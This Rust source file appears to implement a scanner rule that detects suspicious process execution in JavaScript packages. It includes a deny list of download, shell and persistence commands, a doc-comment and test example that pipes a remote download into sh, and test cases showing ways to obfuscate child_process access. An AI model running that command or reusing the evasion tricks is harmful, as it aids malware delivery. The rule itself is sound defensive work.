use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use crate::context::FileContext;
use crate::report::{Confidence, Finding, Severity};
use crate::rule::{Rule, RuleMeta, declare_rule};
use crate::rules::{first_match, is_process_call, matcher};

/// Command shapes that turn process execution into an attack.
const DANGEROUS_COMMANDS: &[&str] = &[
    "curl ",
    "wget ",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "/dev/tcp",
    "nc -e",
    "base64 -d",
    "chmod +x",
    "invoke-webrequest",
    "iwr ",
    "downloadstring",
    "| sh",
    "|sh",
    "| bash",
    "curl.exe",
    "-windowstyle hidden",
    "schtasks",
    "reg add",
];
static DANGEROUS_MATCHER: LazyLock<Option<AhoCorasick>> =
    LazyLock::new(|| matcher(DANGEROUS_COMMANDS));

declare_rule! {
    /// ### What it does
    /// Finds process execution through `child_process` however it is spelled (`require`,
    /// `node:` prefix, destructuring, `import`, computed members with resolved strings),
    /// `process.binding('spawn_sync')`, and grades it: commands that download, decode, open
    /// shells or hide windows are high; spawning with a hidden name (the source never says
    /// `child_process`) is high; detached/silent children are medium; other executions low.
    ///
    /// ### Why is this bad?
    /// Droppers and stealers hand over to shell commands, PowerShell or a downloaded binary;
    /// hiding the module name or detaching the child only makes sense when hiding from the user.
    ///
    /// ### Examples
    /// Incorrect:
    /// ```js
    /// require('child_process').exec('curl -s http://1.2.3.4/x | sh');
    /// ```
    /// Correct:
    /// ```js
    /// require('child_process').execFileSync('git', ['rev-parse', 'HEAD']);
    /// ```
    ProcessExecution, "process-execution", Process,
    tokens = &["child_process", "exec", "spawn", "fork", "process", "Bun.spawn", "Deno.run"]
}

impl Rule for ProcessExecution {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn run_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        let Some(facts) = file.js else { return };
        // Searched once, and only when a call's grading reaches it.
        let hidden_module_text = std::cell::OnceCell::new();
        let hidden_module_text = || {
            *hidden_module_text
                .get_or_init(|| !crate::rules::text_contains(file.text, "child_process"))
        };
        for call in &facts.calls {
            if call.callee == "process.binding" || call.callee == "process._linkedBinding" {
                if call
                    .arguments
                    .first()
                    .and_then(|argument| argument.constant.as_deref())
                    .is_some_and(|name| {
                        name.contains("spawn") || name == "pipe_wrap" || name == "tcp_wrap"
                    })
                {
                    out.push(file.finding(
                        &Self::META,
                        Severity::High,
                        Confidence::High,
                        Some(call.offset as usize),
                        "spawns processes through the internal `process.binding` API".to_owned(),
                        None,
                    ));
                }
                continue;
            }
            if !is_process_call(&call.callee) {
                continue;
            }
            let command = call
                .arguments
                .first()
                .and_then(|argument| argument.constant.as_deref())
                .unwrap_or_default();
            let joined: String = call
                .arguments
                .iter()
                .filter_map(|argument| argument.constant.as_deref())
                .collect::<Vec<_>>()
                .join(" ");
            let window = file
                .text
                .get(call.offset as usize..(call.offset as usize + 400).min(file.text.len()))
                .unwrap_or_default();
            let (severity, confidence, message) = if let Some(index) =
                first_match(DANGEROUS_MATCHER.as_ref(), &joined)
            {
                let token = DANGEROUS_COMMANDS
                    .get(index)
                    .copied()
                    .unwrap_or_default()
                    .trim();
                (
                    Severity::High,
                    Confidence::High,
                    format!("runs a `{token}` command via `{}`", call.callee),
                )
            } else if call
                .arguments
                .first()
                .is_some_and(|argument| argument.decoded || argument.remote)
            {
                (
                    Severity::High,
                    Confidence::High,
                    format!("runs a decoded or downloaded command via `{}`", call.callee),
                )
            } else if call.callee.starts_with("child_process.") && hidden_module_text() {
                (
                    Severity::High,
                    Confidence::Medium,
                    format!(
                        "runs commands via `{}` with the module name hidden",
                        call.callee
                    ),
                )
            } else if call.computed {
                (
                    Severity::High,
                    Confidence::Medium,
                    format!(
                        "reaches `{}` through a computed member to hide the call",
                        call.callee
                    ),
                )
            } else if window.contains("detached")
                && (window.contains("'ignore'") || window.contains("\"ignore\""))
            {
                // A detached, silent `node`/shell child is the classic background implant.
                let shell_or_node = matches!(
                    command,
                    "node" | "sh" | "bash" | "cmd" | "cmd.exe" | "powershell" | "powershell.exe"
                );
                let severity = if shell_or_node {
                    Severity::High
                } else {
                    Severity::Medium
                };
                (
                    severity,
                    Confidence::Medium,
                    format!("starts a detached, silent process via `{}`", call.callee),
                )
            } else {
                let shown = if command.is_empty() {
                    "a computed command".to_owned()
                } else {
                    format!("`{}`", crate::report::evidence(command))
                };
                (
                    Severity::Low,
                    Confidence::Medium,
                    format!("runs {shown} via `{}`", call.callee),
                )
            };
            out.push(file.finding(
                &Self::META,
                severity,
                confidence,
                Some(call.offset as usize),
                message,
                None,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tester::test_rule;

    #[test]
    fn test() {
        let pass = vec![
            "const cp = { exec() {} }; cp.exec('ls');".into(),
            "/regex/.exec('child_process');".into(),
            "const { exec } = require('./child_process'); exec('x');".into(),
        ];
        let fail = vec![
            "require('child_process').exec('curl -s http://1.2.3.4/x | sh');".into(),
            "const { execSync } = require('node:child_process'); execSync('whoami');".into(),
            "import cp from 'child_process'; cp.spawn('sh', ['-c', 'id'], { detached: true, stdio: 'ignore' });".into(),
            "const m = require(['child', 'process'].join('_')); m['exec']('id');".into(),
            "var a = ['exec', 'child_process']; require(a[1])[a[0]]('id');".into(),
            "require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec('id');".into(),
            "process.binding('spawn_sync').spawn({file: 'sh'});".into(),
            "const cp = require('child_process'); cp['sp' + 'awn']('node', ['x.js']);".into(),
            "const cp = require('child_process'); cp[String.fromCharCode(0x73, 0x70, 0x61, 0x77, 0x6e)].call(cp, 'node', ['x.js']);".into(),
        ];
        test_rule(ProcessExecution::META.name, pass, fail);
        // A wrapper module is not a hidden `child_process`: low, not high.
        let report = crate::tester::run(
            &"const spawn = require('cross-spawn'); spawn('dart', ['pub', 'get']);".into(),
        );
        assert!(
            report
                .findings
                .iter()
                .all(|finding| finding.severity == Severity::Low),
            "{:#?}",
            report.findings
        );
    }
}
